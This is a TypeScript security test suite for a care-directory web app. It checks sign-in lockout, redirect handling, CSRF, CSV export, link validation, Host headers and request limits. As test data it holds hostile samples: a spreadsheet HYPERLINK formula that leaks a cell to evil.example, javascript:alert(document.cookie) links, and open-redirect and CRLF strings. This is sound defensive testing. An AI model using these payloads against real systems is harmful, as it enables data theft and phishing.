// Hostile input, as a chaos tester sent it (issue 19): sign-in limits that could be bypassed or
// used to find which accounts exist, open redirects, CSRF tokens from another session, formulas
// in CSV downloads, javascript: links in the directory, NUL bytes, forged host headers, person ids
// in logs, an overdrawn pooled fund, and requests big or long enough to stall the server.
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { sql } from 'kysely';
import { parse } from 'csv-parse/sync';
import type { Bundle, OperationOutcome } from '@medplum/fhirtypes';
import { startTestServer, csrfTokenFor, DEMO_PASSWORD, type TestServer } from './support/server.ts';
import { createAccount } from '../src/auth/accounts.ts';
import { createApiTokenForUsername } from '../src/interop/tokens.ts';
import { NEED_SYSTEM } from '../src/fhir/resources.ts';

const PUBLIC_URL = 'https://joinery.riverford.example';

describe('hostile input', () => {
  let server: TestServer;
  const tokens: Record<string, string> = {};
  let addresses = 0;
  /** A fresh client address per sign-in, so the per-address sign-in limit only bites where a test means it to. */
  const nextAddress = () => `10.77.${Math.floor(++addresses / 250)}.${(addresses % 250) + 1}`;

  before(async () => {
    server = await startTestServer({ people: 1500, seed: 19, env: { PUBLIC_URL, API_REQUESTS_PER_MINUTE: '60' } });
    await createAccount(server.database.db, {
      username: 'manager2',
      displayName: 'Sam Second (commissioner)',
      role: 'manager',
      password: DEMO_PASSWORD,
    });
    for (const username of ['practitioner', 'admin', 'coordinator', 'gp', 'dataquality']) {
      tokens[username] = (await createApiTokenForUsername(server.database.db, username, 'hostile input test')).token;
    }
  });
  after(async () => {
    await server?.close();
  });

  async function signInForm() {
    const page = await server.app.inject({ method: 'GET', url: '/sign-in' });
    const cookie = page.cookies.find((c) => c.name === 'joinery_csrf')!.value;
    const token = /name="_csrf" value="([^"]+)"/.exec(page.body)![1]!;
    return { cookie, token };
  }

  async function postSignIn(fields: Record<string, string>, options: { remoteAddress?: string; headers?: Record<string, string> } = {}) {
    const form = await signInForm();
    return server.app.inject({
      method: 'POST',
      url: '/sign-in',
      remoteAddress: options.remoteAddress ?? nextAddress(),
      headers: { cookie: `joinery_csrf=${form.cookie}`, 'content-type': 'application/x-www-form-urlencoded', ...options.headers },
      payload: new URLSearchParams({ _csrf: form.token, ...fields }).toString(),
    });
  }

  /** Signs in through the form from its own address; the cookie header of the session. */
  async function signInAs(username: string) {
    const form = await signInForm();
    const response = await server.app.inject({
      method: 'POST',
      url: '/sign-in',
      remoteAddress: nextAddress(),
      headers: { cookie: `joinery_csrf=${form.cookie}`, 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ _csrf: form.token, username, password: DEMO_PASSWORD }).toString(),
    });
    const session = response.cookies.find((c) => c.name === 'joinery_session');
    assert.ok(session, `${username} signs in`);
    return `joinery_session=${session.value}; joinery_csrf=${form.cookie}`;
  }

  function fhir(method: 'GET' | 'POST' | 'PUT', url: string, as: string | null, body?: unknown) {
    return server.app.inject({
      method,
      url,
      payload: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
      headers: {
        ...(as ? { authorization: `Bearer ${tokens[as]}` } : {}),
        ...(body === undefined ? {} : { 'content-type': 'application/fhir+json' }),
      },
    });
  }

  /** The sign-in page's answer without what legitimately differs per request (tokens, nonces, the username typed). */
  const normalised = (body: string) => body.replace(/value="[^"]*"/g, 'value=""').replace(/nonce="[^"]*"/g, 'nonce=""');

  describe('sign-in limits', () => {
    test('40 wrong passwords at once, from 40 addresses, lock the account: the right password is then refused', async () => {
      await createAccount(server.database.db, {
        username: 'besieged',
        displayName: 'Besieged',
        role: 'practitioner',
        password: 'the right passphrase',
      });
      const attempts = await Promise.all(
        Array.from({ length: 40 }, (_, i) => postSignIn({ username: 'besieged', password: `guess ${i}` })),
      );
      assert.ok(
        attempts.every((r) => r.statusCode === 401),
        'every guess is answered as a wrong password',
      );
      const right = await postSignIn({ username: 'besieged', password: 'the right passphrase' });
      assert.equal(
        right.cookies.find((c) => c.name === 'joinery_session'),
        undefined,
        'the account is locked: no session',
      );
      assert.equal(right.statusCode, 401);
    });

    test('a rotating X-Forwarded-For does not escape the per-address limit (no proxy is trusted by default)', async () => {
      const statuses: number[] = [];
      for (let i = 0; i < 30; i++) {
        const response = await postSignIn(
          { username: `nobody-${i}`, password: 'guess' },
          { remoteAddress: '10.99.0.1', headers: { 'x-forwarded-for': `203.0.113.${i + 1}` } },
        );
        statuses.push(response.statusCode);
      }
      assert.equal(statuses.filter((s) => s === 429).length, 10, 'after 20 attempts from one address, the rest wait');
    });

    test('unknown, locked and wrong-password sign-ins get the same answer, so usernames cannot be found out', async () => {
      await createAccount(server.database.db, {
        username: 'quiet',
        displayName: 'Quiet',
        role: 'practitioner',
        password: 'quiet passphrase',
      });
      const unknown = await postSignIn({ username: 'nobody-at-all', password: 'guess' });
      const wrong = await postSignIn({ username: 'quiet', password: 'guess' });
      for (let i = 0; i < 5; i++) await postSignIn({ username: 'quiet', password: `guess ${i}` });
      const locked = await postSignIn({ username: 'quiet', password: 'guess' });
      const lockedRight = await postSignIn({ username: 'quiet', password: 'quiet passphrase' });
      for (const [what, response] of [
        ['a wrong password', wrong],
        ['a locked account', locked],
        ['the right password on a locked account', lockedRight],
      ] as const) {
        assert.equal(response.statusCode, unknown.statusCode, `${what} answers like an unknown username`);
        assert.equal(normalised(response.body), normalised(unknown.body), `${what} reads like an unknown username`);
      }
      assert.equal(unknown.statusCode, 401);
      assert.match(unknown.body, /locked for 15 minutes/, 'the page says that repeated failures lock an account');
      assert.equal(
        lockedRight.cookies.find((c) => c.name === 'joinery_session'),
        undefined,
        'the lock holds against the right password',
      );
    });
  });

  describe('smaller holes', () => {
    test('after sign-in, only same-origin paths are followed: /<tab>/evil.example and CR/LF go home, not off-site or to a 500', async () => {
      for (const next of [
        '/\t/evil.example',
        '/%09/evil.example',
        '/\\evil.example',
        '/\r\nSet-Cookie: x=1',
        '//evil.example',
        '/%2F%2Fevil.example',
        'https://evil.example/',
      ]) {
        const response = await postSignIn({ username: 'citizen', password: DEMO_PASSWORD, next });
        assert.equal(response.statusCode, 302, `next=${JSON.stringify(next)}`);
        assert.equal(response.headers.location, '/home', `next=${JSON.stringify(next)} is not followed`);
      }
      const kept = await postSignIn({ username: 'citizen', password: DEMO_PASSWORD, next: '/my-record?tab=plan' });
      assert.equal(kept.headers.location, '/my-record?tab=plan', 'a path on this site is followed');
      const page = await server.app.inject({ method: 'GET', url: '/sign-in?next=/%09/evil.example' });
      assert.match(page.body, /name="next" value="\/home"/, 'the sign-in page does not carry the off-site next');
    });

    test('a CSRF token from another session does not work: a forged sign-out leaves the victim signed in', async () => {
      const attacker = await signInAs('practitioner');
      const attackerToken = await csrfTokenFor(server.app, attacker);
      const attackerCsrfCookie = /joinery_csrf=([^;]+)/.exec(attacker)![1];
      const victim = await signInAs('coordinator');
      const victimSession = /joinery_session=([^;]+)/.exec(victim)![1];
      const forged = await server.app.inject({
        method: 'POST',
        url: '/sign-out',
        headers: {
          cookie: `joinery_session=${victimSession}; joinery_csrf=${attackerCsrfCookie}`,
          'content-type': 'application/x-www-form-urlencoded',
        },
        payload: `_csrf=${encodeURIComponent(attackerToken)}`,
      });
      assert.equal(forged.statusCode, 403);
      const home = await server.app.inject({ method: 'GET', url: '/home', headers: { cookie: victim } });
      assert.equal(home.statusCode, 200, 'the victim is still signed in');
      // Their own token works, and after signing out the sign-in form works again.
      const own = await server.app.inject({
        method: 'POST',
        url: '/sign-out',
        headers: { cookie: victim, 'content-type': 'application/x-www-form-urlencoded' },
        payload: `_csrf=${encodeURIComponent(await csrfTokenFor(server.app, victim))}`,
      });
      assert.equal(own.statusCode, 200);
      const token = /name="_csrf" value="([^"]+)"/.exec(own.body)![1]!;
      const again = await server.app.inject({
        method: 'POST',
        url: '/sign-in',
        remoteAddress: nextAddress(),
        headers: { cookie: victim, 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({ _csrf: token, username: 'coordinator', password: DEMO_PASSWORD }).toString(),
      });
      assert.equal(again.statusCode, 302, 'the sign-in form shown after signing out can be used');
    });

    test('a CSV download carries a service named =HYPERLINK(...) as text, not as a formula; negative amounts stay numbers', async () => {
      const db = server.database.db;
      const allocated = await db
        .selectFrom('ledger_accounts')
        .select(['target_id'])
        .where('kind', '=', 'allocation')
        .where('target_kind', '=', 'service')
        .where('fund_id', '=', 'better-lives')
        .executeTakeFirstOrThrow();
      const evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
      await db.updateTable('services').set({ name: evil }).where('id', '=', allocated.target_id!).execute();
      const cookie = await signInAs('manager');
      const csv = await server.app.inject({
        method: 'GET',
        url: '/budgets/export.csv?fund=better-lives&view=allocations',
        headers: { cookie },
      });
      assert.equal(csv.statusCode, 200);
      const rows = parse(csv.body) as string[][];
      const cells = rows.flat();
      assert.ok(cells.includes(`'${evil}`), 'the name is there, prefixed so a spreadsheet shows it as text');
      assert.ok(!cells.some((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c)), 'no cell starts like a formula');
      for (const r of rows.slice(1))
        assert.equal(
          Math.round((Number(r[2]) - Number(r[3])) * 100),
          Math.round(Number(r[4]) * 100),
          'amounts, negative ones too, are still numbers',
        );
    });

    test('javascript: links are refused as service and organisation websites; https ones are kept', async () => {
      const org = await server.database.db.selectFrom('organisations').select('id').orderBy('id').executeTakeFirstOrThrow();
      const service = (url: string) => ({
        resourceType: 'HealthcareService',
        providedBy: { reference: `Organization/${org.id}` },
        name: `Service at ${url.slice(0, 20)}`,
        category: [{ coding: [{ system: NEED_SYSTEM, code: 'social_isolation' }] }],
        telecom: [{ system: 'url', value: url }],
      });
      for (const url of [
        'javascript:alert(document.cookie)',
        'JavaScript:alert(1)',
        'data:text/html,<script>alert(1)</script>',
        'vbscript:msgbox(1)',
      ]) {
        const refused = await fhir('POST', '/fhir/HealthcareService', 'admin', service(url));
        assert.equal(refused.statusCode, 400, `${url} is refused`);
        assert.match((refused.json() as OperationOutcome).issue[0]!.diagnostics!, /http:\/\/ or https:\/\//);
      }
      const orgRefused = await fhir('POST', '/fhir/Organization', 'admin', {
        resourceType: 'Organization',
        name: 'Scripted Ltd',
        telecom: [{ system: 'url', value: 'javascript:alert(1)' }],
      });
      assert.equal(orgRefused.statusCode, 400, 'an organisation website too');
      const stored = await server.database.db
        .selectFrom('directory_service_details')
        .select('url')
        .where('url', 'like', '%script:%')
        .execute();
      assert.deepEqual(stored, []);
      const kept = await fhir('POST', '/fhir/HealthcareService', 'admin', service('https://shed.example/sessions'));
      assert.equal(kept.statusCode, 201);
    });

    test('a NUL byte is refused with a clear 400, never a 500 (sign-in, FHIR search, FHIR create)', async () => {
      const signInNul = await postSignIn({ username: 'admin\u0000', password: 'x' });
      assert.equal(signInNul.statusCode, 400);
      assert.match(signInNul.body, /cannot contain/);
      for (const url of ['/fhir/Patient?name=a%00b', '/fhir/Patient?identifier=a%00b', '/fhir/Organization?name=a%00b']) {
        const search = await fhir('GET', url, 'practitioner');
        assert.equal(search.statusCode, 400, url);
        assert.equal((search.json() as OperationOutcome).resourceType, 'OperationOutcome');
      }
      const created = await fhir('POST', '/fhir/Patient', 'practitioner', {
        resourceType: 'Patient',
        name: [{ family: 'Nul\u0000byte', given: ['Ann'] }],
        birthDate: '1990-01-01',
      });
      assert.equal(created.statusCode, 400);
      const web = await server.app.inject({ method: 'GET', url: '/directory?q=a%00b' });
      assert.ok(web.statusCode < 500, 'the directory search too');
    });

    test('X-Forwarded-Host and Host are not reflected into FHIR and OpenAPI links: they come from PUBLIC_URL', async () => {
      const forged = { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'http', host: 'evil.example' };
      const metadata = await server.app.inject({ method: 'GET', url: '/fhir/metadata', headers: forged });
      assert.doesNotMatch(metadata.body, /evil\.example/);
      assert.equal(metadata.json().implementation.url, `${PUBLIC_URL}/fhir`);
      const search = await server.app.inject({
        method: 'GET',
        url: '/fhir/Organization?_count=2',
        headers: { ...forged, authorization: `Bearer ${tokens.practitioner}` },
      });
      const bundle = search.json() as Bundle;
      assert.ok(
        bundle.link?.every((l) => l.url.startsWith(`${PUBLIC_URL}/fhir/`)),
        'paging links',
      );
      assert.ok(
        bundle.entry?.every((e) => e.fullUrl!.startsWith(`${PUBLIC_URL}/fhir/`)),
        'fullUrls',
      );
      const openapi = await server.app.inject({ method: 'GET', url: '/openapi.json', headers: forged });
      assert.doesNotMatch(openapi.body, /evil\.example/);
      assert.equal(openapi.json().servers[0].url, PUBLIC_URL);
    });

    test('logs name the route, not the person: no person id in the request line or the error line of a failed page', async () => {
      const db = server.database.db;
      const citizen = await db.selectFrom('users').select('person_id').where('username', '=', 'citizen').executeTakeFirstOrThrow();
      const personId = citizen.person_id!;
      const cookie = await signInAs('practitioner');
      const from = server.logs.length;
      const page = await server.app.inject({ method: 'GET', url: `/people/${personId}`, headers: { cookie } });
      assert.ok(page.statusCode < 500);
      // The page fails while a table it needs is away (as on a database fault).
      await sql`alter table care_relationships rename to care_relationships_away`.execute(db);
      let failed;
      try {
        failed = await server.app.inject({ method: 'GET', url: `/people/${personId}`, headers: { cookie } });
      } finally {
        await sql`alter table care_relationships_away rename to care_relationships`.execute(db);
      }
      assert.equal(failed.statusCode, 500);
      const reference = /Reference: ([0-9a-f-]{36})/.exec(failed.body)?.[1];
      assert.ok(reference, 'the error page gives a reference');
      const lines = server.logs.slice(from).join('');
      assert.ok(lines.includes(reference), 'the reference is in the log, for support to find');
      assert.ok(lines.includes('/people/:id'), 'the route is logged');
      assert.ok(!lines.includes(personId), 'the person id is not');
    });

    test('an approved allocation cannot take a pooled fund below nothing unallocated', async () => {
      const db = server.database.db;
      const first = await signInAs('manager');
      const token = await csrfTokenFor(server.app, first, '/budgets');
      const page = await server.app.inject({ method: 'GET', url: '/budgets', headers: { cookie: first } });
      const target = /<option value="(service:[^"]+)"/.exec(page.body)![1]!;
      const year = /name="year" value="(\d{4})"/.exec(page.body)![1]!;
      const pool = `fund:better-lives:${year}`;
      const balance = async () =>
        Number(
          (
            await sql<{
              b: string;
            }>`select coalesce(sum(amount_pence), 0)::bigint as b from ledger_postings where account_id = ${pool}`.execute(db)
          ).rows[0]!.b,
        );
      const unallocated = await balance();
      assert.ok(unallocated >= 0);
      const amount = (unallocated / 100 + 10_000_000).toFixed(2);
      const propose = await server.app.inject({
        method: 'POST',
        url: '/budgets/changes',
        headers: { cookie: first, 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({
          _csrf: token,
          fund: 'better-lives',
          year,
          kind: 'allocation',
          target,
          amount,
          reason: 'Ten million more than the fund holds',
        }).toString(),
      });
      assert.equal(propose.statusCode, 302);
      const change = await db
        .selectFrom('fund_changes')
        .select('id')
        .where('reason', '=', 'Ten million more than the fund holds')
        .executeTakeFirstOrThrow();
      const second = await signInAs('manager2');
      const approve = await server.app.inject({
        method: 'POST',
        url: `/budgets/changes/${change.id}/decision`,
        headers: { cookie: second, 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({ _csrf: await csrfTokenFor(server.app, second, '/budgets'), decision: 'approved' }).toString(),
      });
      assert.match(decodeURIComponent(String(approve.headers.location)), /more than the fund has unallocated/);
      assert.equal(await balance(), unallocated, 'the unallocated balance is unchanged');
      const posted = await db.selectFrom('ledger_postings').select('id').where('transaction_id', '=', `fund_change:${change.id}`).execute();
      assert.deepEqual(posted, []);
    });
  });

  describe('denial of service', () => {
    test('a 9.5 MB name is refused as too large (413), a 20,000-character one as too long (422), and nothing is stored', async () => {
      // 19 given names of 500,000 characters: each under FHIR's 1 MB string limit, 9.5 MB in all.
      const given = Array.from({ length: 19 }, () => 'A'.repeat(500_000));
      const huge = await fhir('POST', '/fhir/Patient', 'practitioner', {
        resourceType: 'Patient',
        name: [{ family: 'Long', given }],
        birthDate: '1990-01-01',
      });
      assert.equal(huge.statusCode, 413);
      assert.equal((huge.json() as OperationOutcome).resourceType, 'OperationOutcome');
      const long = await fhir('POST', '/fhir/Patient', 'practitioner', {
        resourceType: 'Patient',
        name: [{ family: 'B'.repeat(20_000), given: ['Jo'] }],
        birthDate: '1990-01-01',
      });
      assert.equal(long.statusCode, 422);
      const outcome = long.json() as OperationOutcome;
      assert.equal(outcome.issue[0]!.code, 'too-long');
      assert.deepEqual(outcome.issue[0]!.expression, ['Patient.name[0].family']);
      const stored = await server.database.db
        .selectFrom('persons')
        .select('id')
        .where(sql<boolean>`length(family_name) > 1000 or length(given_name) > 1000`)
        .execute();
      assert.deepEqual(stored, []);
    });

    test('a batch or transaction of more than 100 entries is refused before any work', async () => {
      const entries = Array.from({ length: 101 }, () => ({ request: { method: 'GET' as const, url: 'Organization?_count=1' } }));
      for (const type of ['batch', 'transaction']) {
        const response = await fhir('POST', '/fhir', 'practitioner', { resourceType: 'Bundle', type, entry: entries });
        assert.equal(response.statusCode, 413, type);
        assert.match((response.json() as OperationOutcome).issue[0]!.diagnostics!, /at most 100 entries/);
      }
    });

    test('a batch of searches stops when the client goes away', async () => {
      const db = server.database.db;
      const auditRows = async () =>
        Number((await sql<{ n: string }>`select count(*)::bigint as n from audit_events`.execute(db)).rows[0]!.n);
      const entry = { request: { method: 'GET' as const, url: 'Patient?_count=200' } };
      // What one search costs: the people it looked at, each an audit row.
      const start = await auditRows();
      const one = await fhir('POST', '/fhir', 'practitioner', { resourceType: 'Bundle', type: 'batch', entry: [entry] });
      assert.equal(one.statusCode, 200);
      const perSearch = (await auditRows()) - start;
      assert.ok(perSearch > 10, 'a search is audited per person');

      const before = await auditRows();
      const body = JSON.stringify({ resourceType: 'Bundle', type: 'batch', entry: Array.from({ length: 100 }, () => entry) });
      const request = http.request(`${server.url}/fhir`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${tokens.practitioner}`,
          'content-type': 'application/fhir+json',
          'content-length': Buffer.byteLength(body),
        },
      });
      request.on('error', () => {});
      request.end(body);
      // Once the server has started on it, the client gives up.
      while ((await auditRows()) - before < perSearch) await new Promise((resolve) => setTimeout(resolve, 20));
      request.destroy();
      let settled = -1;
      for (let stable = 0; stable < 5;) {
        await new Promise((resolve) => setTimeout(resolve, 200));
        const now = await auditRows();
        stable = now === settled ? stable + 1 : 0;
        settled = now;
      }
      const searchesRun = (settled - before) / perSearch;
      assert.ok(searchesRun < 50, `the server stopped after about ${searchesRun.toFixed(1)} of 100 searches`);
    });

    test('each user has a request budget on /fhir and /api: past it, 429 for them, and others carry on', async () => {
      const statuses: number[] = [];
      for (let i = 0; i < 61; i++) statuses.push((await fhir('GET', '/fhir/Organization?_count=1', 'coordinator')).statusCode);
      assert.deepEqual([...new Set(statuses.slice(0, 60))], [200]);
      assert.equal(statuses[60], 429);
      const throttled = await fhir('GET', '/fhir/Organization?_count=1', 'coordinator');
      assert.equal((throttled.json() as OperationOutcome).issue[0]!.code, 'throttled');
      assert.equal((await fhir('GET', '/fhir/Organization?_count=1', 'gp')).statusCode, 200, 'another user is not held up');
      const api: number[] = [];
      for (let i = 0; i < 61; i++)
        api.push(
          (await server.app.inject({ method: 'GET', url: '/api/imports', headers: { authorization: `Bearer ${tokens.dataquality}` } }))
            .statusCode,
        );
      assert.deepEqual([...new Set(api.slice(0, 60))], [200]);
      assert.equal(api[60], 429);
    });
  });
});
